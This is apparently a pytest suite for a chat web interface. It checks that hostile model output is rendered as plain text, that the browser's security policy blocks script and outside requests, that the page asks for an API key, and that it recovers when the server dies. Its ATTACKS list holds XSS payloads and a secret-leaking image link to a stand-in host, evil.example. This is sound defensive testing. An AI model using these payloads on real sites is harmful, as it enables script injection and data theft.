"""What a hostile model, a missing key, or a lost server does to the page."""

import pytest
from browser import Page
from rapt_process import ScriptedServer
from test_page_chat import NUM_HEADER_TOKENS, final, thought

ATTACKS = [
    "<script>window.attacked = 1</script>",
    "<img src=x onerror='window.attacked = 1'>",
    "<svg onload=window.attacked=1></svg>",
    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
    "[click](javascript:window.attacked=1)",
    "[click](  JaVaScRiPt:window.attacked=1)",
    "[click](java\tscript:window.attacked=1)",
    "[click](data:text/html,<script>1</script>)",
    "[click](<javascript:window.attacked=1>)",
    "<javascript:window.attacked=1>",
    "![x](https://evil.example/leak?q=secret)",
    "![x](https://evil.example/a.png \"t\" onerror=1)",
    "<https://evil.example/\"onmouseover=window.attacked=1>",
    "`<img src=x onerror=window.attacked=1>`",
    "```html\"><script>window.attacked=1</script>\n<b>\n```",
    "| <script>window.attacked=1</script> | b |\n|---|---|\n| <img src=x onerror=1> | c |",
    "&lt;script&gt;window.attacked=1&lt;/script&gt;",
    "<style>body { display: none }</style>",
    "<a href='https://evil.example' autofocus onfocus=window.attacked=1>x</a>",
    "<form action='https://evil.example'><input autofocus onfocus=window.attacked=1></form>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
]


def test_model_cannot_attack(page: Page, server: ScriptedServer):
    text = "\n\n".join(ATTACKS)
    server.say(thought(text) + final(text))
    page.driver.get_log("performance")
    page.ask("<img src=x onerror='window.attacked = 1'><script>window.attacked = 1</script>")
    page.wait_answer("javascript")
    page.click(".thinking summary")
    page.wait_text(".thought-text", "onerror")
    made = page.js(
        "return [...document.querySelectorAll('.message *')].map((e) => e.tagName.toLowerCase())"
    )
    assert not set(made) & {"script", "img", "iframe", "style", "form", "base", "meta", "input", "object"}
    addresses = page.js("return [...document.querySelectorAll('.message a')].map((a) => a.href)")
    assert addresses and all(a.startswith("https://evil.example") for a in addresses)
    attributes = page.js(
        "return [...document.querySelectorAll('.message *')].flatMap((e) => e.getAttributeNames())"
    )
    assert not [name for name in attributes if name.startswith("on")]
    page.wait(lambda: not page.is_busy(), "the answer ends")
    assert page.js("return typeof window.attacked") == "undefined"
    assert page.foreign_requests() == []
    # Text is text: what was written is what is read.
    assert "<script>window.attacked = 1</script>" in page.text(".is-assistant .markdown")


def test_browser_enforces_the_policy(page: Page):
    # Should a fault ever let markup through, the browser itself refuses to make or run it.
    assert page.js(
        "try { document.body.innerHTML = '<b>x</b>'; return 'made' } catch (e) { return e.name }"
    ) == "TypeError"
    assert page.js(
        "const s = document.createElement('script'); s.append('window.attacked = 1');"
        "try { document.body.append(s) } catch {} return typeof window.attacked"
    ) == "undefined"
    fetched = page.driver.execute_async_script(
        "fetch('https://evil.example/').then(() => arguments[0]('sent'), (e) => arguments[0](e.name))"
    )
    assert fetched == "TypeError"
    refused = page.console_errors()
    assert len(refused) >= 3 and all("Content Security Policy" in m or "Trusted" in m for m in refused)


def test_key_is_asked_for(blank: Page, start_server):
    server = start_server(api_key="open sesame")
    blank.open(server.url)
    blank.wait_text("dialog", "API key")
    # Nothing has been asked for in vain.
    assert blank.console_errors() == []
    blank.fill("#api-key", "wrong")
    blank.click("dialog .primary")
    blank.wait_text("dialog", "refused this key")
    blank.fill("#api-key", "open sesame")
    blank.click("dialog .primary")
    blank.wait_text("#status", "Idle")
    assert blank.console_errors(allowed=("status of 401",)) == []
    server.say(final("Come in."))
    blank.ask("Knock.")
    blank.wait_answer("Come in.")
    blank.load()
    blank.wait_text("#status", "Idle")  # the key is remembered for this tab
    assert blank.console_errors() == []


def test_server_dies_and_comes_back(blank: Page, start_server):
    server: ScriptedServer = start_server()
    blank.open(server.url)
    blank.wait_text("#status", "Idle")
    server.say(final("one two three four"))
    server.allow_steps(NUM_HEADER_TOKENS + 2)
    blank.ask("Count.")
    blank.wait_text(".is-running .markdown", "one two")
    server.process.kill()
    server.process.wait()
    blank.wait_text(".trouble", "connection was lost")
    blank.wait_text("#status", "Connection lost")
    assert "one two" in blank.text(".is-assistant .markdown")
    # A question to nobody is answered with what is wrong.
    blank.ask("Anybody?")
    blank.wait_text(".is-assistant:last-of-type .trouble", "cannot be reached")
    again = start_server(port=server.port)
    blank.wait_text("#status", "Idle")
    again.say(final("I am back."))
    blank.js("[...document.querySelectorAll('.regenerate')].at(-1).click()")
    blank.wait_answer("I am back.")
    # The browser reports lost connections by itself; nothing else is amiss.
    assert blank.console_errors(allowed=("net::ERR_",)) == []


@pytest.mark.parametrize("what", ["nothing", "limit"])
def test_failed_answers_are_told(page: Page, server: ScriptedServer, what: str):
    """An answer that is nothing, and one that ends at its limit."""
    if what == "nothing":
        server.say("")
        page.ask("Nothing?")
        page.wait_answer("ended at the token limit")
    else:
        page.settings()
        page.fill("#setting-maxTokens", str(NUM_HEADER_TOKENS + 1))
        page.settings(False)
        server.say(final("one two three"))
        page.ask("Count.")
        page.wait_answer("ended at the token limit")
        assert page.text(".is-assistant .markdown") == "one"
